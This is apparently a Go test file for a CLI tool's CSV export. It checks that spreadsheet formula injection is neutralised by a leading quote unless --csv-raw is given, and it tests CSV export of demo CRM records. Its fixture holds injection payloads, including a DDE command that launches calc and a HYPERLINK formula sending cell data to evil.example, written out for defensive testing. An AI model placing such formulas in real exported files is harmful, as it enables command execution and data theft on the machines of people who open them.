package cli

import (
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"strings"
	"testing"
)

// Finding 6 of issue 13: CSV formula injection. `odx get -o csv` writes a
// string cell that a spreadsheet would run (= + - @ first) with a leading
// '; numbers, and strings that are plain negative numbers, stay as they
// are; --csv-raw writes every cell as received.

// formulaServer is a fault server of 4 rows, each with one payload of the
// review in Name, a negative number and a negative decimal sent as a
// string (IEEE754Compatible).
func formulaServer(t *testing.T) *faultServer {
	payloads := []string{`=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1+1)`, `=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")`}
	f := newFaultServer(t, len(payloads))
	f.rowJSON = func(i int) string {
		return fmt.Sprintf(`{"Id":%d,"Name":"%s","Delta":-7,"Amount":"-1.50","Exp":-1.5E3}`, i, payloads[i])
	}
	return f
}

func TestCSVFormulaGuard(t *testing.T) {
	faultEnv(t)
	f := formulaServer(t)
	for _, tc := range []struct {
		raw   bool
		names []string
	}{
		{false, []string{`'=cmd|' /C calc'!A0`, `'+1+1`, `'@SUM(1+1)`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`}},
		{true, []string{`=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1+1)`, `=HYPERLINK("http://evil.example/?d="&A1,"Click")`}},
	} {
		args := []string{"get", "Items", "-o", "csv"}
		if tc.raw {
			args = append(args, "--csv-raw")
		}
		code, stdout, stderr := f.cli(t, args...)
		if code != exitOK {
			t.Fatalf("%s: exit status %d, stderr %q; want 0", strings.Join(args, " "), code, stderr)
		}
		recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
		if err != nil || len(recs) != 5 {
			t.Fatalf("%s: %d records (%v) in %q; want a header and 4 rows", strings.Join(args, " "), len(recs), err, stdout)
		}
		if h := strings.Join(recs[0], ","); h != "Id,Name,Delta,Amount,Exp" {
			t.Errorf("header %q; want Id,Name,Delta,Amount,Exp", h)
		}
		for i, rec := range recs[1:] {
			if rec[1] != tc.names[i] {
				t.Errorf("raw %v, row %d: Name %q; want %q", tc.raw, i, rec[1], tc.names[i])
			}
			if rec[2] != "-7" || rec[3] != "-1.50" || rec[4] != "-1.5E3" {
				t.Errorf("raw %v, row %d: numbers %q; want -7, -1.50 and -1.5E3 as sent", tc.raw, i, rec[2:])
			}
		}
	}
}

func TestCSVRawNeedsCSV(t *testing.T) {
	faultEnv(t)
	f := newFaultServer(t, 1)
	code, _, stderr := f.cli(t, "get", "Items", "-o", "json", "--csv-raw")
	if code != exitUsage || !strings.Contains(stderr, "--csv-raw goes with -o csv") {
		t.Errorf("exit status %d, stderr %q; want 2 and a sentence", code, stderr)
	}
}

// TestCSVSpreadsheet (issue 14, item 8): `odx get -o csv` on the demo
// writes the key, names per language, amounts as value and currency,
// references as their key; --csv-json-cells writes the objects as JSON.
func TestCSVSpreadsheet(t *testing.T) {
	tests := []struct {
		args   []string
		header string
		row    func(rec []string) string // what is wrong with a record, or ""
	}{
		{[]string{"get", "Crm_Sales_Customers", "--top", "3", "-o", "csv"},
			"Id,Number,Name_EN,Name_BG,Name_DE,Name_ZH,Party,SalesPerson,State,Active,CreditLimit,CreditLimit_Currency,DiscountPercent,ExternalRef,CustomerSince,CreationTime,GracePeriodDays,Notes",
			func(rec []string) string {
				if len(rec[0]) != 36 || len(rec[6]) != 36 || strings.ContainsAny(rec[2]+rec[6]+rec[10], "{}") {
					return "want a GUID key, a GUID party, text and numbers without JSON"
				}
				return ""
			}},
		{[]string{"get", "Crm_Sales_Customers", "--top", "3", "-o", "csv", "--csv-json-cells"},
			"Number,Name,Party,SalesPerson,State,Active,CreditLimit,DiscountPercent,ExternalRef,CustomerSince,CreationTime,GracePeriodDays,Notes",
			func(rec []string) string {
				if !strings.HasPrefix(rec[1], "{") || !strings.HasPrefix(rec[2], `{"@odata.id":`) {
					return "want names and references as JSON"
				}
				return ""
			}},
	}
	for _, tt := range tests {
		out, _ := odxDemo(t, tt.args...)
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(recs) != 4 {
			t.Fatalf("%s: %d records (%v); want a header and 3 rows", strings.Join(tt.args, " "), len(recs), err)
		}
		if h := strings.Join(recs[0], ","); h != tt.header {
			t.Errorf("%s: header\n%s\nwant\n%s", strings.Join(tt.args, " "), h, tt.header)
		}
		for _, rec := range recs[1:] {
			if msg := tt.row(rec); msg != "" {
				t.Errorf("%s: row %q: %s", strings.Join(tt.args, " "), rec, msg)
			}
		}
	}
	var errb strings.Builder
	e := &env{stdin: strings.NewReader(""), stdout: &strings.Builder{}, stderr: &errb, getenv: os.Getenv}
	if code := run(context.Background(), e, []string{"get", "Crm_Sales_Customers", "-o", "json", "--csv-json-cells", "--demo"}); code == exitOK || !strings.Contains(errb.String(), "--csv-json-cells goes with -o csv") {
		t.Errorf("--csv-json-cells with -o json: exit %d, stderr %q; want a usage error", code, errb.String())
	}
}
